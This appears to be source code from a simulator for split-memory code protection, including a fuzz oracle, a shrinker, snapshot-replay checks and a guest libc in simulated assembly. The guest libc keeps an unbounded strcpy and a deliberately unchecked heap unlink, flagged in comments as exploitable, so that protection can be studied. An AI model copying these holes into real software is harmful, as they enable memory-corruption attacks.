    po.digest = proc->exit_digest;
    obs.procs.push_back(std::move(po));
  }
  obs.instructions = k.stats().instructions;
  obs.detections = k.detections().size();
  obs.stats = k.stats();
  return obs;
}

RunObservation run_case(const FuzzCase& c, const OracleConfig& cfg,
                        u64 budget) {
  const std::unique_ptr<kernel::Kernel> k = make_case_kernel(c, cfg);
  return observe(*k, k->run(budget));
}

OracleVerdict check_robustness(const FuzzCase& c, const OracleOptions& opts) {
  OracleVerdict v;
  if (c.faults.empty()) return v;

  kernel::KernelConfig kc;
  kernel::Kernel k(kc);
  k.set_engine(core::make_engine(core::ProtectionMode::kSplitAll,
                                 core::ResponseMode::kBreak));
  k.register_image(build(c));
  inject::FaultInjector injector(c.faults);
  invariant::InvariantWatchdog watchdog;
  injector.attach(k);
  watchdog.attach(k, &injector);
  k.spawn("fuzz");

  const auto result = k.run(opts.budget);
  watchdog.finalize(k);

  const auto fail = [&v](std::string why) {
    v.ok = false;
    v.divergence = "robustness: " + std::move(why);
    return v;
  };
  if (result == kernel::Kernel::RunResult::kBudgetExhausted) {
    return fail("run did not complete within budget (faults wedged the "
                "kernel instead of degrading)");
  }
  if (watchdog.breaches() > 0) {
    return fail(std::to_string(watchdog.breaches()) +
                " security breach(es): instruction fetched from a split "
                "page's data frame");
  }
  for (std::size_t i = 0; i < injector.records().size(); ++i) {
    const auto& r = injector.records()[i];
    if (!r.fired) continue;  // event never occurred: reported, not silent
    if (!r.outcome.has_value()) {
      return fail("fault #" + std::to_string(i) + " (" +
                  inject::to_string(r.fault.kind) +
                  ") fired but was never classified");
    }
    if (*r.outcome == inject::Outcome::kBreach) {
      return fail("fault #" + std::to_string(i) + " (" +
                  inject::to_string(r.fault.kind) + ") classified as breach");
    }
  }
  return v;
}

OracleVerdict check_case(const FuzzCase& c, const OracleOptions& opts) {
  OracleVerdict v;

  if (opts.robustness_only) return check_robustness(c, opts);

  // --- behavioural clause: every engine matches the unprotected run ------
  if (!opts.billing_only) {
    const std::vector<OracleConfig> cfgs = behavioral_configs();
    RunObservation ref = run_case(c, cfgs.front(), opts.budget);
    if (ref.result != kernel::Kernel::RunResult::kAllExited) {
      v.ok = false;
      v.divergence = std::string("reference run did not exit: ") +
                     run_result_name(ref.result);
      return v;
    }
    for (std::size_t i = 1; i < cfgs.size(); ++i) {
      const RunObservation got = run_case(c, cfgs[i], opts.budget);
      const std::string d =
          diff_behavior(ref, cfgs.front().label, got, cfgs[i].label);
      if (!d.empty()) {
        v.ok = false;
        v.divergence = d;
        return v;
      }
    }
  }

  // --- billing clause: fast-path toggles change no simulated number ------
  if (!opts.behavioral_only) {
    std::vector<OracleConfig> cfgs = billing_configs();
    if (opts.inject_lru_bug) {
      // The bug only fires where the memo is live.
      for (OracleConfig& cfg : cfgs)
        if (cfg.data_memo) cfg.inject_lru_bug = true;
    }
    // Each engine's toggled runs compare against that engine's baseline
    // (billing identity is a within-engine contract); billing_configs()
    // interleaves them as [baseline, no-memo, no-dcache, no-dbt, trace]
    // per engine.
    for (std::size_t base = 0; base + 4 < cfgs.size(); base += 5) {
      const RunObservation ref = run_case(c, cfgs[base], opts.budget);
      for (std::size_t i = base + 1; i < base + 5; ++i) {
        const RunObservation got = run_case(c, cfgs[i], opts.budget);
        const std::string d =
            diff_billing(ref, cfgs[base].label, got, cfgs[i].label);
        if (!d.empty()) {
          v.ok = false;
          v.divergence = d;
          return v;
        }
      }
    }
  }

  // --- robustness clause: the fault schedule degrades, never breaches ----
  if (!c.faults.empty()) return check_robustness(c, opts);
  return v;
}

}  // namespace sm::fuzz
