// Differential oracle: runs one generated guest program under every
// protection engine and fast-path configuration, and checks the paper's
// equivalence contract.
//
// For a BENIGN program (the only kind the generator emits), protection is
// supposed to be invisible:
//
//   BEHAVIOURAL EQUALITY — across engines (none / split break|observe|
//   forensics / hardware NX / PaX PAGEEXEC / NX+split-mixed) and across
//   kernel paging strategies (software TLB, eager load): identical exit
//   kind and code, console output, syscall trace, final-memory digest and
//   retired-instruction count for every process, and zero detections.
//   Simulated cycle counts legitimately differ — split protection costs
//   extra traps; that is the paper's Table 2 — so cycles are NOT compared
//   here.
//
//   BILLING IDENTITY — within one engine, toggling the simulator-only fast
//   paths (Mmu data memos, decode cache, basic-block engine) and the trace
//   layer (pure observation) must leave every simulated stat identical,
//   including cycles: the fast paths are host-side optimizations and bill
//   exactly what the slow path they short-circuit would have, and a
//   TraceSink never charges or perturbs state. Only the host-side counters
//   themselves (fetch/data_fastpath_hits, decode_cache_*, block_*) may
//   differ.
//
// check_case() returns the first violated clause as a human-readable
// divergence string — which doubles as the shrinker's predicate.
#pragma once

#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "core/split_engine.h"
#include "fuzz/generator.h"
#include "image/sha256.h"
#include "kernel/kernel.h"
#include "metrics/stats.h"

namespace sm::fuzz {

// One kernel+engine configuration the oracle runs a case under.
struct OracleConfig {
  std::string label;
  core::ProtectionMode mode = core::ProtectionMode::kNone;
  core::ResponseMode response = core::ResponseMode::kBreak;
  bool software_tlb = false;
  bool eager_load = false;
  // Simulator fast paths (billing-identity axis).
  bool data_memo = true;
  bool decode_cache = true;
  bool dbt = true;  // basic-block engine (Cpu::step_block)
  // Trace layer on (billing-identity axis: observation must not bill).
  bool trace = false;
  // Oracle self-test: plant the deliberate memo-LRU billing bug
  // (Mmu::set_inject_memo_lru_bug) so the campaign can prove it would
  // catch one.
  bool inject_lru_bug = false;
  // Simulated RAM override (0 = KernelConfig default). The snapshot
  // battery runs hundreds of kernels; a smaller machine keeps it quick
  // without changing any guest-visible behaviour.
  u32 phys_frames = 0;
};

// Everything observable from one run.
struct ProcObservation {
  kernel::Pid pid = 0;
  kernel::ExitKind exit_kind = kernel::ExitKind::kRunning;
  u32 exit_code = 0;
  std::string console;
  std::vector<kernel::SyscallRecord> syscalls;
  std::optional<image::Digest> digest;
};

struct RunObservation {
  kernel::Kernel::RunResult result = kernel::Kernel::RunResult::kAllExited;
  std::vector<ProcObservation> procs;  // pid order
  u64 instructions = 0;                // retired instructions, all processes
  std::size_t detections = 0;
  metrics::Stats stats;  // full counters, for the billing clause
};

struct OracleOptions {
  u64 budget = 20'000'000;
  // Arm the deliberate LRU billing bug on every memo-enabled run.
  bool inject_lru_bug = false;
  // Restrict to one clause (the shrinker uses billing_only to keep
  // predicate evaluations cheap).
  bool behavioral_only = false;
  bool billing_only = false;
  // Only the robustness clause (fault-schedule shrinking predicate).
  bool robustness_only = false;
};

struct OracleVerdict {
  bool ok = true;
  std::string divergence;  // empty iff ok

  explicit operator bool() const { return ok; }
};

// Builds the case's image, runs it under `cfg`, returns the observation.
RunObservation run_case(const FuzzCase& c, const OracleConfig& cfg,
                        u64 budget = 20'000'000);

// The pieces run_case() is made of, exposed for the snapshot-replay
// battery (which needs to stop a kernel mid-run, checkpoint it, and
// observe restored copies against a straight-through reference).
//
// make_case_kernel: a kernel with the case's image registered, the
// engine installed, pid 1 spawned and the cfg's fast-path toggles
// applied — ready for run(). (Kernel is not movable; heap-allocated.)
std::unique_ptr<kernel::Kernel> make_case_kernel(const FuzzCase& c,
                                                 const OracleConfig& cfg);
// observe: extracts the full observation from a kernel that finished
// running with `result`.
RunObservation observe(kernel::Kernel& k, kernel::Kernel::RunResult result);
// The two equivalence comparators (empty string == equal). diff_behavior
// checks the engine-invisible clause (exit/console/syscalls/digest,
// cycles exempt); diff_billing checks every simulated counter including
// cycles, exempting only the host-side fast-path counters.
std::string diff_behavior(const RunObservation& ref, const std::string& ref_l,
                          const RunObservation& got, const std::string& got_l);
std::string diff_billing(const RunObservation& ref, const std::string& ref_l,
                         const RunObservation& got, const std::string& got_l);

// The full differential sweep. Throws asm::AsmError if the body does not
// assemble (generator bug / hand-written corpus typo). Cases carrying a
// fault schedule additionally run the robustness clause below.
OracleVerdict check_case(const FuzzCase& c, const OracleOptions& opts = {});

// ROBUSTNESS clause (ISSUE 5): replay the case's fault schedule against
// split-break with the invariant watchdog attached and demand graceful
// degradation — the run completes within budget, ZERO security breaches
// (no instruction ever fetched from a split page's data frame), and every
// fault that fired is classified recovered or degraded, never silent.
// Trivially passes when c.faults is empty.
OracleVerdict check_robustness(const FuzzCase& c,
                               const OracleOptions& opts = {});

// The two sweeps, exposed for tests.
std::vector<OracleConfig> behavioral_configs();
std::vector<OracleConfig> billing_configs();

}  // namespace sm::fuzz
