// Deterministic PRNG for the fuzz subsystem (splitmix64).
//
// Everything downstream of a seed — program shape, operands, corpus file
// names — must be a pure function of that seed so a campaign is exactly
// reproducible from its --seed, on any host, at any --jobs. Host entropy
// (std::random_device, time, ASLR'd pointers) is therefore banned here.
#pragma once

#include "arch/types.h"

namespace sm::fuzz {

using arch::u32;
using arch::u64;

class Rng {
 public:
  explicit Rng(u64 seed) : state_(seed) {}

  u64 next() {
    // splitmix64: passes BigCrush, two multiplies per draw, and any seed
    // (including 0) is a fine starting point.
    u64 z = (state_ += 0x9E3779B97F4A7C15ull);
    z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
    z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
    return z ^ (z >> 31);
  }

  // Uniform in [0, n); 0 when n == 0.
  u32 below(u32 n) { return n == 0 ? 0 : static_cast<u32>(next() % n); }

  // Uniform in [lo, hi] inclusive.
  u32 range(u32 lo, u32 hi) { return lo + below(hi - lo + 1); }

  // True with probability percent/100.
  bool chance(u32 percent) { return below(100) < percent; }

 private:
  u64 state_;
};

// Derives an independent per-case seed from a campaign seed and an index,
// so --seed S --count N always names the same N programs regardless of
// --jobs or replay order.
inline u64 case_seed(u64 campaign_seed, u64 index) {
  Rng r(campaign_seed ^ (index * 0xA24BAED4963EE407ull + 1));
  return r.next();
}

}  // namespace sm::fuzz
