#include "fuzz/shrinker.h"

#include <sstream>
#include <vector>

namespace sm::fuzz {

namespace {

struct Tracker {
  const DivergesFn& diverges;
  u32 calls = 0;

  // Divergence of `candidate`, or "" if it runs clean / fails to assemble
  // (the predicate is expected to catch AsmError itself; a throwing
  // candidate is treated as not-reproducing).
  std::string test(const FuzzCase& candidate) {
    ++calls;
    try {
      return diverges(candidate);
    } catch (...) {
      return "";
    }
  }
};

FuzzCase with_body(const FuzzCase& c, std::string body) {
  FuzzCase out = c;
  out.body = std::move(body);
  return out;
}

std::vector<std::string> split_lines(const std::string& s) {
  std::vector<std::string> lines;
  std::istringstream in(s);
  std::string line;
  while (std::getline(in, line)) lines.push_back(line);
  return lines;
}

std::string join_lines(const std::vector<std::string>& lines) {
  std::string out;
  for (const std::string& l : lines) {
    out += l;
    out += '\n';
  }
  return out;
}

}  // namespace

ShrinkResult shrink(const FuzzCase& c, const DivergesFn& diverges) {
  Tracker t{diverges};
  ShrinkResult res;
  res.reduced = c;
  res.divergence = t.test(c);
  if (res.divergence.empty()) {
    // Not divergent in the first place; nothing to do.
    res.predicate_calls = t.calls;
    return res;
  }

  // --- phase 1: drop whole actions (ddmin) -------------------------------
  {
    SplitBody parts = split_actions(res.reduced.body);
    std::size_t chunk = parts.actions.size() / 2;
    if (chunk == 0) chunk = 1;
    while (!parts.actions.empty()) {
      bool removed = false;
      for (std::size_t at = 0; at < parts.actions.size();) {
        SplitBody candidate = parts;
        const std::size_t n = std::min(chunk, candidate.actions.size() - at);
        candidate.actions.erase(candidate.actions.begin() + at,
                                candidate.actions.begin() + at + n);
        const std::string d =
            t.test(with_body(res.reduced, join_actions(candidate)));
        if (!d.empty()) {
          parts = std::move(candidate);
          res.divergence = d;
          removed = true;  // keep `at`: the next chunk slid into place
        } else {
          at += n;
        }
      }
      if (!removed) {
        if (chunk == 1) break;
        chunk = (chunk + 1) / 2;
      }
    }
    res.reduced.body = join_actions(parts);
  }

  // --- phase 1b: ddmin the fault schedule (jointly with the program) -----
  // A robustness divergence usually needs only one or two of the scheduled
  // faults; the rest are noise in the reproducer. Same chunked-removal
  // discipline as the action phase, applied to the ;!fault list.
  if (!res.reduced.faults.empty()) {
    std::vector<inject::ScheduledFault> faults = res.reduced.faults.faults;
    std::size_t chunk = faults.size() / 2;
    if (chunk == 0) chunk = 1;
    while (!faults.empty()) {
      bool removed = false;
      for (std::size_t at = 0; at < faults.size();) {
        FuzzCase candidate = res.reduced;
        candidate.faults.faults = faults;
        const std::size_t n = std::min(chunk, faults.size() - at);
        candidate.faults.faults.erase(candidate.faults.faults.begin() + at,
                                      candidate.faults.faults.begin() + at +
                                          n);
        const std::string d = t.test(candidate);
        if (!d.empty()) {
          faults = std::move(candidate.faults.faults);
          res.divergence = d;
          removed = true;  // keep `at`: the next chunk slid into place
        } else {
          at += n;
        }
      }
      if (!removed) {
        if (chunk == 1) break;
        chunk = (chunk + 1) / 2;
      }
    }
    res.reduced.faults.faults = std::move(faults);
  }

  // --- phase 2: drop individual lines inside surviving actions -----------
  {
    SplitBody parts = split_actions(res.reduced.body);
    for (std::size_t a = 0; a < parts.actions.size(); ++a) {
      std::vector<std::string> lines = split_lines(parts.actions[a]);
      for (std::size_t i = 0; i < lines.size();) {
        std::vector<std::string> candidate = lines;
        candidate.erase(candidate.begin() + i);
        SplitBody cp = parts;
        cp.actions[a] = join_lines(candidate);
        const std::string d =
            t.test(with_body(res.reduced, join_actions(cp)));
        if (!d.empty()) {
          lines = std::move(candidate);
          parts.actions[a] = join_lines(lines);
          res.divergence = d;
        } else {
          ++i;
        }
      }
    }
    res.reduced.body = join_actions(parts);
  }

  // --- phase 3: simplify the prologue (straddle pad, entry jump) ----------
  {
    SplitBody parts = split_actions(res.reduced.body);
    std::vector<std::string> lines = split_lines(parts.prologue);
    for (std::size_t i = 0; i < lines.size();) {
      // Never drop the _start label itself.
      if (lines[i].rfind("_start", 0) == 0) {
        ++i;
        continue;
      }
      std::vector<std::string> candidate = lines;
      candidate.erase(candidate.begin() + i);
      SplitBody cp = parts;
      cp.prologue = join_lines(candidate);
      const std::string d = t.test(with_body(res.reduced, join_actions(cp)));
      if (!d.empty()) {
        lines = std::move(candidate);
        parts.prologue = join_lines(lines);
        res.divergence = d;
      } else {
        ++i;
      }
    }
    res.reduced.body = join_actions(parts);
  }

  res.predicate_calls = t.calls;
  return res;
}

}  // namespace sm::fuzz
