// Greedy trace-divergence shrinker.
//
// Given a case the oracle flagged and a predicate "does this body still
// diverge?", produces a minimal-ish reproducer:
//
//   phase 1 — action-level ddmin: the generator emits bodies as
//             self-contained ;;A-delimited actions precisely so whole
//             actions can be deleted without invalidating the rest; try
//             removing chunks of n/2, n/4, ... 1 actions to a fixed point.
//   phase 2 — line-level deletion inside the surviving actions (drops
//             dead folds, redundant register setup, unneeded variants).
//   phase 3 — prologue simplification (the page-straddle entry pad).
//
// A candidate is accepted only if it still assembles AND the predicate
// still reports a divergence — the shrinker never "fixes" the case into a
// different failure. Every predicate evaluation is deterministic, so the
// reduced reproducer is a pure function of (input case, predicate).
#pragma once

#include <functional>
#include <string>

#include "fuzz/generator.h"

namespace sm::fuzz {

// Returns the divergence string for a candidate, or "" if it runs clean.
// (oracle::check_case wrapped with an assemble-check is the usual one.)
using DivergesFn = std::function<std::string(const FuzzCase&)>;

struct ShrinkResult {
  FuzzCase reduced;
  std::string divergence;   // the reduced case's divergence
  u32 predicate_calls = 0;  // cost accounting for the driver's report
};

ShrinkResult shrink(const FuzzCase& c, const DivergesFn& diverges);

}  // namespace sm::fuzz
