#include "fuzz/snapshot_replay.h"

#include <algorithm>
#include <chrono>
#include <sstream>

#include "kernel/kernel.h"

namespace sm::fuzz {

namespace {

using RunResult = kernel::Kernel::RunResult;

double seconds_since(std::chrono::steady_clock::time_point t0) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() - t0)
      .count();
}

// Both oracle clauses against the reference. Billing identity holds across
// a snapshot boundary because restore drops only host-side caches, and
// those bill identically cold or warm (the fuzz oracle's own contract).
std::string compare_to_ref(const RunObservation& ref, kernel::Kernel& k,
                           RunResult result, const std::string& label) {
  const RunObservation got = observe(k, result);
  std::string d = diff_behavior(ref, "straight", got, label);
  if (d.empty()) d = diff_billing(ref, "straight", got, label);
  return d;
}

}  // namespace

ReplayVerdict check_replay_at(const FuzzCase& c, const OracleConfig& cfg,
                              u64 budget, u64 prefix) {
  ReplayVerdict v;
  if (prefix >= budget) {
    v.ok = false;
    v.divergence = "replay: prefix >= budget (no suffix to compare)";
    return v;
  }

  const auto ref_k = make_case_kernel(c, cfg);
  const RunObservation ref = observe(*ref_k, ref_k->run(budget));

  // Re-run to the split point and checkpoint. run(P) then run(budget-P)
  // is observably identical to run(budget): budget exhaustion leaves
  // current_ scheduled mid-slice, and re-entry resumes stepping without
  // an extra wake sweep or reschedule.
  const auto save_k = make_case_kernel(c, cfg);
  if (prefix > 0) save_k->run(prefix);
  std::ostringstream os;
  save_k->save(os);

  // Restore into a FRESH kernel (the battery's point: the snapshot alone
  // carries the state) and run the remaining budget.
  const auto rest_k = make_case_kernel(c, cfg);
  std::istringstream is(os.str());
  rest_k->restore(is);
  const RunResult res = rest_k->run(budget - prefix);

  const std::string d = compare_to_ref(
      ref, *rest_k, res, "restored@" + std::to_string(prefix));
  if (!d.empty()) {
    v.ok = false;
    v.divergence = d;
  }
  return v;
}

std::vector<u64> syscall_boundaries(const FuzzCase& c, const OracleConfig& cfg,
                                    u64 budget) {
  const auto k = make_case_kernel(c, cfg);
  std::vector<u64> out;
  u64 syscalls_seen = 0;
  for (u64 done = 0; done < budget; ++done) {
    if (k->run(1) != RunResult::kBudgetExhausted) break;  // nothing stepped
    const u64 s = k->stats().syscalls;
    if (s != syscalls_seen) {
      syscalls_seen = s;
      out.push_back(k->stats().instructions);
    }
  }
  return out;
}

ForkServerResult run_fork_server_case(const FuzzCase& c,
                                      const OracleConfig& cfg,
                                      const ForkServerOptions& opts) {
  ForkServerResult r;

  const auto ref_k = make_case_kernel(c, cfg);
  const RunObservation ref = observe(*ref_k, ref_k->run(opts.budget));
  r.total_instructions = ref.instructions;
  r.prefix_instructions =
      std::min(ref.instructions * opts.prefix_percent / 100,
               opts.budget > 0 ? opts.budget - 1 : u64{0});
  const u64 suffix_budget = opts.budget - r.prefix_instructions;

  // The fork-server kernel: runs the prefix ONCE, snapshots to memory,
  // and is reset in place for every iteration afterwards.
  const auto k = make_case_kernel(c, cfg);
  if (r.prefix_instructions > 0) k->run(r.prefix_instructions);
  std::ostringstream os;
  k->save(os);
  const std::string blob = os.str();
  r.snapshot_bytes = blob.size();

  for (u32 i = 0; i < opts.resets && r.ok; ++i) {
    // Baseline: what a non-fork-server fuzzer pays per iteration — build
    // the kernel (image assembly, 64 MiB of simulated RAM) and run the
    // whole program from instruction 0.
    auto t0 = std::chrono::steady_clock::now();
    const auto fresh = make_case_kernel(c, cfg);
    const RunResult fresh_res = fresh->run(opts.budget);
    r.rerun_seconds += seconds_since(t0);
    std::string d = compare_to_ref(ref, *fresh, fresh_res, "rerun");

    // Fork server: in-place restore of the prefix snapshot, then only the
    // suffix executes.
    t0 = std::chrono::steady_clock::now();
    std::istringstream is(blob);
    k->restore(is);
    const RunResult reset_res = k->run(suffix_budget);
    r.reset_seconds += seconds_since(t0);
    if (d.empty()) d = compare_to_ref(ref, *k, reset_res, "forkserver");

    if (!d.empty()) {
      r.ok = false;
      r.divergence = d;
    }
  }
  return r;
}

}  // namespace sm::fuzz
