// Replay-equivalence checks over whole-machine snapshots (ISSUE: the
// fork-server leg of the checkpoint/restore battery).
//
// Two faces:
//
//   check_replay_at — the battery's unit step: run a case straight through
//   (reference), then re-run it to instruction `prefix`, save, restore into
//   a FRESH kernel, run the remaining budget, and demand the restored run
//   matches the reference on BOTH oracle clauses — behaviour (exit kind and
//   code, console, syscall trace, final-memory digest) AND billing (every
//   simulated counter, cycles included; host-side fast-path counters are
//   the only exemption, since restore drops those caches cold).
//
//   run_fork_server_case — the fuzz_driver --snapshot-prefix engine: one
//   kernel runs the prefix once and is then reset in place from an
//   in-memory snapshot for each iteration, instead of re-running the
//   prefix from scratch. Every iteration's observation is checked against
//   the reference, and host wall-clock for both strategies is returned so
//   the CI leg can report the speedup (reset vs re-run).
#pragma once

#include <string>

#include "fuzz/generator.h"
#include "fuzz/oracle.h"

namespace sm::fuzz {

struct ReplayVerdict {
  bool ok = true;
  std::string divergence;  // empty iff ok

  explicit operator bool() const { return ok; }
};

// Snapshot at `prefix` retired instructions, restore into a fresh kernel,
// run the remaining budget, compare against the uninterrupted run.
ReplayVerdict check_replay_at(const FuzzCase& c, const OracleConfig& cfg,
                              u64 budget, u64 prefix);

// Instruction counts at which the case crosses a syscall boundary (the
// count right after each syscall instruction retires), found by single-
// stepping the reference run. The battery snapshots at each of these.
std::vector<u64> syscall_boundaries(const FuzzCase& c, const OracleConfig& cfg,
                                    u64 budget);

struct ForkServerOptions {
  u64 budget = 20'000'000;
  // Snapshot point as a percentage of the reference run's retired
  // instructions — late prefixes are where a fork server pays off.
  u32 prefix_percent = 90;
  // Fork-server iterations per case (each timed both ways).
  u32 resets = 4;
};

struct ForkServerResult {
  bool ok = true;
  std::string divergence;       // first mismatch, empty iff ok
  u64 total_instructions = 0;   // reference run length T
  u64 prefix_instructions = 0;  // snapshot point P
  std::size_t snapshot_bytes = 0;
  // Host seconds, summed over all iterations of each strategy:
  // rerun = fresh kernel + full run from instruction 0 (the baseline a
  // non-fork-server fuzzer pays); reset = in-place restore + suffix run.
  double rerun_seconds = 0.0;
  double reset_seconds = 0.0;

  explicit operator bool() const { return ok; }
};

ForkServerResult run_fork_server_case(const FuzzCase& c,
                                      const OracleConfig& cfg,
                                      const ForkServerOptions& opts = {});

}  // namespace sm::fuzz
