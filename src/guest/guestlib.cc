#include "guest/guestlib.h"

#include "kernel/syscall_defs.h"

namespace sm::guest {

std::string prelude() { return kernel::guest_syscall_equs(); }

std::string libc() {
  return R"(
; ===================== guest libc =====================
.text

; strlen(r1=s) -> r0
strlen:
  movi r0, 0
strlen_loop:
  loadb r2, [r1]
  cmpi r2, 0
  jz strlen_done
  addi r0, 1
  addi r1, 1
  jmp strlen_loop
strlen_done:
  ret

; strcpy(r1=dst, r2=src) -> r0=dst.  No bounds check: the classic bug.
strcpy:
  mov r0, r1
strcpy_loop:
  loadb r3, [r2]
  storeb [r1], r3
  addi r1, 1
  addi r2, 1
  cmpi r3, 0
  jnz strcpy_loop
  ret

; memcpy(r1=dst, r2=src, r3=n) -> r0=dst
memcpy:
  mov r0, r1
memcpy_loop:
  cmpi r3, 0
  jz memcpy_done
  loadb r4, [r2]
  storeb [r1], r4
  addi r1, 1
  addi r2, 1
  addi r3, -1
  jmp memcpy_loop
memcpy_done:
  ret

; memset(r1=dst, r2=byte, r3=n) -> r0=dst
memset:
  mov r0, r1
memset_loop:
  cmpi r3, 0
  jz memset_done
  storeb [r1], r2
  addi r1, 1
  addi r3, -1
  jmp memset_loop
memset_done:
  ret

; print(r1=s): write(FD_CONSOLE, s, strlen(s))
print:
  push r1
  call strlen
  pop r1
  mov r3, r0
  mov r2, r1
  movi r1, FD_CONSOLE
  movi r0, SYS_WRITE
  syscall
  ret

; print_fd(r1=fd, r2=s)
print_fd:
  push r1
  push r2
  mov r1, r2
  call strlen
  pop r2
  pop r1
  mov r3, r0
  movi r0, SYS_WRITE
  syscall
  ret

; put_hex_fd(r1=fd, r2=value): writes "0x%08x\n"
put_hex_fd:
  movi r3, 8
  movi r4, hexbuf+9
put_hex_loop:
  mov r5, r2
  movi r0, 15
  and r5, r0
  cmpi r5, 10
  jb put_hex_digit
  addi r5, 87               ; 'a' - 10
  jmp put_hex_store
put_hex_digit:
  addi r5, 48               ; '0'
put_hex_store:
  storeb [r4], r5
  movi r0, 4
  shr r2, r0
  addi r4, -1
  addi r3, -1
  cmpi r3, 0
  jnz put_hex_loop
  movi r2, hexbuf
  movi r3, 11
  movi r0, SYS_WRITE
  syscall
  ret

; read_n(r1=fd, r2=buf, r3=n) -> r0 = bytes read (== n unless EOF)
read_n:
  mov r4, r3                ; remaining
  mov r5, r2                ; cursor
  push r2                   ; original buf
read_n_loop:
  cmpi r4, 0
  jz read_n_done
  push r4
  push r5
  mov r2, r5
  mov r3, r4
  movi r0, SYS_READ
  syscall
  pop r5
  pop r4
  cmpi r0, 0
  jz read_n_done
  add r5, r0
  sub r4, r0
  jmp read_n_loop
read_n_done:
  pop r2
  mov r0, r5
  sub r0, r2
  ret

; read_line(r1=fd, r2=buf, r3=max) -> r0 = length (newline consumed,
; not stored; buffer NUL-terminated)
read_line:
  push r2                   ; original buf
  mov r4, r2                ; cursor
  mov r5, r3                ; space left
read_line_loop:
  cmpi r5, 2
  jb read_line_done
  push r4
  push r5
  mov r2, r4
  movi r3, 1
  movi r0, SYS_READ
  syscall
  pop r5
  pop r4
  cmpi r0, 0
  jz read_line_done
  loadb r3, [r4]
  cmpi r3, 10               ; '\n'
  jz read_line_done
  addi r4, 1
  addi r5, -1
  jmp read_line_loop
read_line_done:
  movi r3, 0
  storeb [r4], r3
  mov r0, r4
  pop r2
  sub r0, r2
  ret

; ----- heap: first-fit free list, forward coalescing via UNLINK -----
; chunk = [size|inuse][fd][bk][payload]; all sizes include the header.

; malloc_init(): carve a 256 KiB arena with brk
malloc_init:
  movi r0, SYS_BRK
  movi r1, 0
  syscall                   ; r0 = current break
  movi r1, heap_top
  store [r1], r0
  mov r2, r0
  movi r3, 0x40000
  add r2, r3
  movi r1, heap_end
  store [r1], r2
  mov r1, r2
  movi r0, SYS_BRK
  syscall
  movi r1, flist
  store [r1+4], r1          ; head.fd = head
  store [r1+8], r1          ; head.bk = head
  ret

; malloc(r1=bytes) -> r0 = payload ptr (0 on exhaustion)
malloc:
  addi r1, 19               ; + 12-byte header, round up to 8
  movi r2, 0xfffffff8
  and r1, r2
  movi r2, flist
  load r3, [r2+4]           ; c = head.fd
malloc_scan:
  cmp r3, r2
  jz malloc_wilderness
  load r4, [r3]             ; c.size (free: inuse bit clear)
  cmp r4, r1
  jae malloc_found
  load r3, [r3+4]
  jmp malloc_scan
malloc_found:
  load r4, [r3+4]           ; fd
  load r5, [r3+8]           ; bk
  store [r4+8], r5          ; unlink: fd->bk = bk
  store [r5+4], r4          ;         bk->fd = fd
  load r4, [r3]
  movi r5, 1
  or r4, r5
  store [r3], r4            ; mark in use
  mov r0, r3
  addi r0, 12
  ret
malloc_wilderness:
  movi r2, heap_top
  load r3, [r2]
  mov r4, r3
  add r4, r1
  movi r5, heap_end
  load r5, [r5]
  cmp r5, r4
  jb malloc_fail            ; heap_end < new top
  store [r2], r4
  mov r0, r1
  movi r5, 1
  or r0, r5
  store [r3], r0
  mov r0, r3
  addi r0, 12
  ret
malloc_fail:
  movi r0, 0
  ret

; free(r1=payload): clears inuse, coalesces forward with unlink(next).
; No integrity checks, exactly like the 2001-era allocators the paper's
; wu-ftpd exploit (7350wurm) abuses.
free:
  addi r1, -12              ; c = chunk header
  load r2, [r1]
  movi r3, 0xfffffffe
  and r2, r3
  store [r1], r2            ; clear inuse
  mov r3, r1
  add r3, r2                ; next = c + size
  movi r4, heap_top
  load r4, [r4]
  cmp r3, r4
  jae free_insert           ; next beyond the wilderness: no neighbour
  load r4, [r3]
  movi r5, 1
  and r5, r4
  cmpi r5, 1
  jz free_insert            ; next in use
  ; unlink(next): the attacker-controllable write-what-where
  load r4, [r3+4]           ; fd
  load r5, [r3+8]           ; bk
  store [r4+8], r5          ; *(fd+8) = bk
  store [r5+4], r4          ; *(bk+4) = fd
  load r4, [r3]
  add r2, r4
  store [r1], r2            ; merged size
free_insert:
  movi r3, flist
  load r4, [r3+4]
  store [r1+4], r4          ; c.fd = head.fd
  store [r1+8], r3          ; c.bk = head
  store [r4+8], r1          ; head.fd.bk = c
  store [r3+4], r1          ; head.fd = c
  ret

; setjmp(r1=jmp_buf) -> 0.   jmp_buf: [pc][sp-after-return][fp]
setjmp:
  load r0, [sp]
  store [r1], r0
  mov r0, sp
  addi r0, 4
  store [r1+4], r0
  store [r1+8], fp
  movi r0, 0
  ret

; longjmp(r1=jmp_buf, r2=val): never returns
longjmp:
  load r3, [r1+4]
  mov sp, r3
  load fp, [r1+8]
  mov r0, r2
  load r4, [r1]
  jmpr r4

.data
hexbuf: .ascii "0x00000000\n"

flist:    .word 0, 0, 0
heap_top: .word 0
heap_end: .word 0
; ===================== end guest libc =====================
)";
}

std::string program(const std::string& body) {
  return prelude() + "\n.text\n" + body + "\n" + libc();
}

}  // namespace sm::guest
