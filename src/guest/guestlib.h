// Guest-side "libc" written in the simulated assembly.
//
// Guest programs are built as: prelude() + <program text> + libc().
// The prelude defines the syscall ABI constants; libc() provides the
// routines below. Calling convention: arguments in r1..r4, result in r0,
// r0-r5 caller-saved, fp/sp preserved by callees that use them.
//
//   strlen(r1=s) -> r0
//   strcpy(r1=dst, r2=src) -> r0=dst          ; unbounded: THE classic bug
//   memcpy(r1=dst, r2=src, r3=n) -> r0=dst
//   memset(r1=dst, r2=byte, r3=n) -> r0=dst
//   print(r1=s)                                ; to the console fd
//   print_fd(r1=fd, r2=s)
//   put_hex_fd(r1=fd, r2=value)                ; "0x%08x\n"
//   read_n(r1=fd, r2=buf, r3=n) -> r0=read     ; exactly n unless EOF
//   read_line(r1=fd, r2=buf, r3=max) -> r0=len ; to '\n' (consumed), NUL-term
//   malloc_init()                              ; brk-based heap
//   malloc(r1=size) -> r0=ptr
//   free(r1=ptr)                               ; dlmalloc-style UNLINK, no
//                                              ; sanity checks (exploitable,
//                                              ; as in 2001-era allocators)
//   setjmp(r1=jmp_buf) -> r0=0                 ; jmp_buf = 3 words pc/sp/fp
//   longjmp(r1=jmp_buf, r2=val)                ; never returns
//
// Heap chunk layout (exploit-relevant): [size|inuse][fd][bk][payload...]
// with a 12-byte header; free() coalesces forward via unlink(next):
